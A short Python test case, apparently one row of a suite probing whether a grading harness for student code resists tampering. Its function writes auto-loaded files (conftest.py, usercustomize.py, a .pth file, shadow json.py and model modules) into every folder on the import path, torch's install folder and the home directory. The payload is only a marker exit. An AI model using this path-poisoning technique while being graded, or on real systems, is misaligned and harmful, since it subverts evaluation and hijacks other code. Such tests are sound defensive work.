"""Row 12: code that runs writes shadows and configuration beside itself, on the path and in the interpreter's folders.

Where: import, forward
"""

import torch
from torch import nn, os, sys

CODE = "raise SystemExit('TAKEN: a file of the student was imported')\n"


def attack(*_):
    here = os.path.dirname(os.path.realpath(__file__))
    folders = [here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), os.getcwd(), *sys.path]
    folders += [os.path.dirname(torch.__file__), os.path.expanduser("~")]
    for folder in dict.fromkeys(folders):
        for name in ("conftest.py", "pytest.ini", "usercustomize.py", "attack.pth", "json.py", "RNN.py", "Encoder.py"):
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write(CODE)
            except OSError:
                continue
